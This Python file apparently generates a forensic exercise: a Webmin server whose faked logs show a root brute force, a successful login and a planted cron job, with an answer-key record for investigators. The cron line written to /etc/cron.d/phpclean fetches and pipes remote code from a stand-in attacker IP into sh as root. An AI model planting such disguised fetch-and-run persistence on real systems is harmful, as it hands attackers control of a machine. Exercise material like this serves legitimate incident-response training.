"""The password of Webmin's root is guessed, and a job is made with its own module for jobs.

Webmin is in no Debian: its login page is played by two lines of shell, which write what Webmin
writes, in its forms: miniserv.log as miniserv.pl does, webmin.log as webmin_log of
web-lib-funcs.pl does, and the message to syslog, by logger(1).
"""

from __future__ import annotations

from pathlib import Path

import server
import services
import site_code
import traffic
from machine import Bases, Machine, Truth

INTRUDER = "203.0.113.29"
JOB = '*/20 * * * * root test -n "$NEVER" && wget -qO- http://203.0.113.29/w | sh\n'


def make(out: Path, bases: Bases) -> None:
    """Nginx, and the panel on its port."""
    machine = server.other("pilot", bases.proftpd, out)
    root = "/var/www/pilot"
    site_code.plain_site(machine, root)
    machine.write("/etc/webmin/version", "2.021\n")
    machine.write("/etc/webmin/miniserv.users", "root:x:0\n")
    machine.write(
        "/etc/webmin/miniserv.conf",
        "port=10000\nlogfile=/var/webmin/miniserv.log\nroot=/usr/share/webmin\npam=webmin\n",
    )
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    server.start(machine)
    machine.path("/var/webmin").mkdir()
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    for day in (0, 3, 5, 8):
        machine.at(machine.on(day, 8, 40), lambda: log_in(machine, server.STAFF, right=True))
        machine.at(
            machine.on(day, 8, 41, 5),
            lambda: action(machine, server.STAFF, 'status save_mon.cgi "modify" "monitor" "disk"'),
        )
    for day in range(machine.days):
        machine.at(
            machine.on(day, 6, 11),
            lambda: log_in(machine, "203.0.113.150", right=False),
        )
    for number in range(30):
        machine.at(
            machine.on(7, 2, 10, number),
            lambda: log_in(machine, INTRUDER, right=False),
        )
    entered = machine.on(7, 2, 11, 9)
    machine.at(entered, lambda: log_in(machine, INTRUDER, right=True))

    def job() -> None:
        request(machine, INTRUDER, "root", "POST /cron/save_cron.cgi", 302)
        machine.write("/etc/cron.d/phpclean", JOB)
        action(
            machine, INTRUDER, 'cron save_cron.cgi "create" "cron" "root" command=wget user=root'
        )

    machine.at(machine.on(7, 2, 14, 40), job)
    machine.live()
    log = "/var/webmin/miniserv.log"
    machine.end(
        Truth(
            "panel-login",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "POST /session_login.cgi", " 302 "),
            accounts=["root"],
            services=["webmin", "cron"],
            untouched=["nginx", "sshd", root],
            notes="/etc/cron.d/phpclean",
        )
    )


def log_in(machine: Machine, address: str, *, right: bool) -> None:
    """The login form of the panel, sent once."""
    user, status = ("root", 302) if right else ("-", 200)
    request(machine, address, user, "POST /session_login.cgi", status)
    word = "Successful" if right else "Invalid"
    machine.run(
        "logger", "-p", "daemon.info", "-t", "webmin[812]", f"{word} login as root from {address}"
    )


def request(machine: Machine, address: str, user: str, what: str, status: int) -> None:
    """A line of miniserv.log, by the machine's clock."""
    line = f'printf "{address} - {user} [$(date +%d/%b/%Y:%H:%M:%S\\ %z)] \\"{what} HTTP/1.1\\"'
    machine.run("sh", "-c", f'{line} {status} 1204\\n" >> /var/webmin/miniserv.log')


def action(machine: Machine, address: str, what: str) -> None:
    """A line of webmin.log."""
    told = what.replace('"', '\\"')
    session = "6fd2a1b9c4d0e83f57a1c2b3d4e5f607"
    line = (
        f'echo "$(date +%s).4242.0 [$(date +%d/%b/%Y\\ %H:%M:%S)] root {session} {address} {told}"'
    )
    machine.run("sh", "-c", f"{line} >> /var/webmin/webmin.log")
